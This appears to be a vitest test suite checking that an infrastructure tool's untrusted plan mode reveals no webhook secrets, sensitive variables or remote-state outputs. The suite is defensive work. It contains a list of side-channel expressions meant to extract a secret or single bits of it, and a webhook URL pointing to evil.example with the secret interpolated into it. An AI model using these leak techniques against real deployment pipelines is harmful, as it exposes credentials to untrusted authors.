/** A plan of an untrusted declaration reveals no secret to its author. */
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { project, type Ran, runIn } from "../cli/harness.ts";

const HOOK = { url: "https://hooks.acme.example/b", events: ["invoice.paid"] };
const SECRET = "hosting_webhook.billing.secret";

/** Expressions that transform a secret beyond recognition, or that reveal one bit of it. */
const EXPRESSIONS = [
  `nonsensitive(upper(S))`,
  `nonsensitive(strrev(S))`,
  `nonsensitive(substr(S, 0, 7))`,
  `nonsensitive(join("-", split("", S)))`,
  `nonsensitive(sha256(S))`,
  `nonsensitive(length(S))`,
  `nonsensitive(S) == "whsec_1"`,
  `nonsensitive({ "\${S}" = 1 })`,
  `can(regex("^whsec_[0-7]", S))`,
  `can(regex("^whsec_[89a-f]", S))`,
  `can([0, 1, 2][parseint(substr(S, 6, 1), 16)])`,
  `try([1][S], "x")`,
  `issensitive(S)`,
  `[1][upper(S)]`,
  `{ a = 1 }[S]`,
  `tonumber(S)`,
  `S + 1`,
  `S ? 1 : 2`,
  `parseint(sha512(S), 16)`,
  `[for k, v in { (S) = 1 } : [1][k]]`,
  `{ for i in [1, 2] : upper(S) => i }`,
  `[S][*][0]`,
  `jsondecode(S)`,
  `formatdate(S, "2026-01-01T00:00:00Z")`,
  `range(parseint(substr(S, 6, 1), 16))`,
];

/** An applied project with a webhook, and copies of its state with other secrets. */
async function applied(declaration = { project: "acme", webhooks: { billing: HOOK } }) {
  const made = await project(JSON.stringify(declaration));
  expect((await made.run(["apply", "--auto-approve"])).code).toBe(0);
  const state = await made.read("hosting.tfstate");
  const [found = ""] = /whsec_[0-9a-f]+/.exec(state) ?? [];
  const withSecret = (secret: string) => {
    writeFileSync(path.join(made.dir, "copy.tfstate"), state.replaceAll(found, secret));
  };
  return { ...made, withSecret };
}

const FORMATS = [[], ["--format", "markdown"], ["--format", "html"], ["--json"], ["--out", "n.plan"]];
/** Removes the parts of an output that differ in every run. */
const timeless = (text: string) => text.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z|"checksum": "\w+"/g, "");
const said = ({ code, stdout, stderr }: Ran) => timeless(`${code}\n${stdout}\n${stderr}`);

describe("a plan of an untrusted declaration prints the same, whatever the secrets of the state are", () => {
  const SECRETS = [`whsec_${"0123456789".repeat(4)}`, `whsec_${"fedcba9876".repeat(4)}`];

  it.each([
    ["as outputs", (value: string) => ({ output: { x: { value } } })],
    [
      "through a local, as sensitive outputs",
      (value: string) => ({ locals: { l: value }, output: { x: { value: "${local.l}", sensitive: true } } }),
    ],
    [
      "as an attribute of another resource",
      (value: string) => ({
        resource: {
          hosting_client_account: { a: { name: `\${jsonencode(${value.slice(2, -1)})}`, deletion_policy: "forget" } },
        },
      }),
    ],
  ])("%s", async (_, more) => {
    const { dir, run, withSecret, write } = await applied();
    const all: string[][] = [];
    for (const secret of SECRETS) {
      const texts: string[] = [];
      for (const [i, expression] of EXPRESSIONS.entries()) {
        const { resource = {}, ...rest } = more(`\${${expression.replaceAll("S", SECRET)}}`) as { resource?: object };
        const stack = {
          provider: { hosting: { project: "acme" } },
          resource: { hosting_webhook: { billing: HOOK }, ...resource },
          ...rest,
        };
        await write("main.tf.json", JSON.stringify(stack));
        withSecret(secret);
        const format = FORMATS[i % FORMATS.length] ?? [];
        const ran = await run(["plan", "--untrusted", "--stack", ".", "--state", "copy.tfstate", ...format]);
        texts.push(`${expression}: ${said(ran)}`);
        if (format[0] === "--out" && ran.code === 0)
          texts.push(timeless(readFileSync(path.join(dir, "n.plan"), "utf8")));
      }
      all.push(texts);
    }
    expect(all[1]).toEqual(all[0]);
    expect(all.flat().join("\n")).not.toMatch(/0123456789|fedcba9876/i);
  });

  it("in YAML, where a value that came from a secret may be changed by what checks it", async () => {
    const { run, withSecret, write } = await applied();
    const texts: string[] = [];
    await write(
      "hosting.yaml",
      JSON.stringify({
        project: "acme",
        webhooks: { billing: HOOK, other: { ...HOOK, url: `https://evil.example/\${${SECRET}}` } },
        outputs: { x: { value: `a\${${SECRET}}`, sensitive: true } },
      }),
    );
    for (const secret of SECRETS) {
      withSecret(secret.toUpperCase());
      texts.push(said(await run(["plan", "--untrusted", "--state", "copy.tfstate"])));
    }
    expect(texts[1]).toEqual(texts[0]);
    expect(texts[0]).toContain("Plan: 1 to add");
  });
});

it("an untrusted declaration is given no fingerprint of a secret", async () => {
  const output = { ...HOOK, secret_output: { file: "hook.secret" } };
  const { run, write, read } = await applied({ project: "acme", webhooks: { billing: output } });
  const [fingerprint = "none"] = /sha256:[0-9a-f]{8}/.exec(await read("hosting.tfstate")) ?? [];
  const outputs = { x: "${hosting_webhook.billing.secret_fingerprint}" };
  await write("hosting.yaml", JSON.stringify({ project: "acme", webhooks: { billing: output }, outputs }));
  const state = ["--state", "hosting.tfstate"];
  expect((await run(["plan", ...state])).stdout).toContain(`x = "${fingerprint}"`);
  expect((await run(["plan", "--untrusted", ...state])).stdout).toContain("x = (known after apply)");
});

describe("an untrusted stack is given no value", () => {
  const SHOUTED = /HUSH-HUSH-HUSH/i;
  const stack = (value: string, more: object) =>
    JSON.stringify({ provider: { hosting: { project: "acme" } }, output: { x: { value } }, ...more });

  it.each([
    ["--var", ["--var", "v=hush-hush-hush"], {}],
    ["--var-file", ["--var-file", "v.json"], {}],
    ["the environment", [], { TF_VAR_v: "hush-hush-hush", HOSTFORM_ENV_ALLOW: "TF_VAR_v" }],
  ])("of a sensitive variable that came from %s", async (_, args, env) => {
    const { sandbox, run, write } = await project();
    await write("v.json", '{"v": "hush-hush-hush"}');
    await write("main.tf.json", stack("${nonsensitive(upper(var.v))}", { variable: { v: { sensitive: true } } }));
    const around = { HOSTING_BASE_URL: sandbox.url, HOSTING_TOKEN: sandbox.tokens.agency, ...env };
    const ran = await run(["plan", "--untrusted", "--stack", ".", ...args], { env: around });
    expect(ran.code, ran.stderr).toBe(0);
    expect(ran.stdout + ran.stderr).not.toMatch(SHOUTED);
    expect(ran.stdout).toContain("x = (known after apply)");
  });

  it("of a sensitive output of another state, while it is given the others", async () => {
    const { run, write } = await project();
    const outputs = {
      open: { value: "seen", type: "string" },
      shut: { value: "hush-hush-hush", type: "string", sensitive: true },
    };
    const state = { version: 4, serial: 1, lineage: "l", outputs, resources: [] };
    await write("other.tfstate", JSON.stringify(state));
    const data = { terraform_remote_state: { other: { backend: "local", config: { path: "other.tfstate" } } } };
    const from = "data.terraform_remote_state.other.outputs";
    await write("main.tf.json", stack(`\${${from}.open} \${upper(${from}.open)}`, { data }));
    expect((await run(["plan", "--untrusted", "--stack", "."])).stdout).toContain('x = "seen SEEN"');
    await write("main.tf.json", stack(`\${nonsensitive(upper(${from}.shut))}`, { data }));
    const ran = await run(["plan", "--untrusted", "--stack", "."]);
    expect(ran.stdout + ran.stderr).not.toMatch(SHOUTED);
    expect(ran.stdout).toContain("x = (known after apply)");
  });
});

describe("what an untrusted project calls a secret hides no part of the plan", () => {
  const WORDS = ["delete", "create", "hosting_webhook", "1 to destroy", "Deletes hosting_webhook.billing", "summary"];

  it.each([
    ["by the default of a sensitive variable", { variable: { x: { sensitive: true, default: WORDS } } }, {}],
    [
      "by what its expressions make of one",
      {
        variable: { x: { sensitive: true, default: WORDS[0] } },
        output: { o: { sensitive: true, value: "${var.x}" } },
      },
      {},
    ],
    [
      "by a state of another stack that it brings along",
      {
        data: { terraform_remote_state: { r: { backend: "local", config: { path: "r.tfstate" } } } },
        output: { o: { sensitive: true, value: "${data.terraform_remote_state.r.outputs.o}" } },
      },
      {
        "r.tfstate": {
          version: 4,
          serial: 1,
          lineage: "l",
          resources: [],
          outputs: { o: { value: "delete", type: "string", sensitive: true } },
        },
      },
    ],
  ])("%s", async (_, more, files) => {
    const { dir, sandbox, run, write, read } = await applied();
    await write("copy.tfstate", await read("hosting.tfstate"));
    for (const [name, content] of Object.entries(files)) await write(name, JSON.stringify(content));
    await write("main.tf.json", JSON.stringify({ provider: { hosting: { project: "acme" } }, ...more }));
    const args = ["plan", "--untrusted", "--stack", ".", "--state", "copy.tfstate"];
    const json = await run([...args, "--json"]);
    expect(json.stdout).not.toContain("(secret)");
    expect(json.json().resource_changes).toMatchObject([
      { address: "hosting_webhook.billing", type: "hosting_webhook", change: { actions: ["delete"] } },
    ]);
    const markdown = await runIn(dir, [...args, "--format", "markdown"], {
      env: { HOSTING_BASE_URL: sandbox.url, HOSTING_TOKEN: sandbox.tokens.agency },
      runner: true,
    });
    expect(markdown.stdout).toContain("1 to destroy");
    // The runner masks the state's secret, but no word of the plan.
    expect(markdown.stderr).toContain("::add-mask::whsec_");
    for (const word of WORDS) expect(markdown.stderr).not.toContain(`::add-mask::${word}`);
  });
});

it("a saved plan that did not show what an expression made of a secret is not applied where that is shown", async () => {
  const { sandbox, run, write, read } = await applied();
  const account = { name: `\${nonsensitive(upper(${SECRET}))}`, deletion_policy: "forget" };
  const resource = { hosting_webhook: { billing: HOOK }, hosting_client_account: { a: account } };
  await write("main.tf.json", JSON.stringify({ provider: { hosting: { project: "acme" } }, resource }));
  await write("copy.tfstate", await read("hosting.tfstate"));
  const where = ["--stack", ".", "--state", "copy.tfstate"];
  expect((await run(["plan", "--untrusted", ...where, "--out", "n.plan"])).code).toBe(0);
  const before = sandbox.control.list("accounts").length;
  const ran = await run(["apply", ...where, "n.plan"]);
  expect([ran.code, sandbox.control.list("accounts").length]).toEqual([1, before]);
  expect(ran.stderr).toContain("plan.");
});
